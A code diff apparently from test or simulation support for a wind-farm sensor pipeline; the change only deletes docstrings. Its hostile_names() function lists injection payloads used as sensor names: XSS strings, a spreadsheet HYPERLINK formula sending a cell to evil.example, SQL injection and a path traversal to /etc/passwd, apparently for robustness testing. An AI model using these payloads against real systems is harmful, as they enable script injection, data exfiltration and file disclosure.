@@ -23,13 +23,10 @@ SENSORS = ("T01/nacelle", "T02/nacelle", "T03/nacelle", "T07/nacelle", "PIPE3/le
 
 @dataclass(frozen=True)
 class Farm:
-    """What the pipeline wrote."""
-
     verdicts: list[Verdict]
     items: list[ReviewItem]
 
     def write(self, folder: Path) -> tuple[Path, Path]:
-        """Write verdicts.jsonl and review.jsonl; returns (verdicts, review)."""
         verdicts, review = folder / "verdicts.jsonl", folder / "review.jsonl"
         verdicts.write_bytes(b"".join(encode_verdict(v) + b"\n" for v in self.verdicts))
         review.write_bytes(b"".join(encode_review(i) + b"\n" for i in self.items))
@@ -125,7 +122,6 @@ def simulate(
 
 
 def hostile_names() -> tuple[str, ...]:
-    """Sensor names that somebody with bad intentions would choose."""
     return (
         "<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>",
         '=HYPERLINK("http://evil.example/?"&A1)', "' OR 1=1; --", "T07/../../etc/passwd",
@@ -134,5 +130,4 @@ def hostile_names() -> tuple[str, ...]:
 
 
 def mix(farm: Farm) -> dict[str, int]:
-    """Count the labels."""
     return {str(label): sum(v.label is label for v in farm.verdicts) for label in Label}
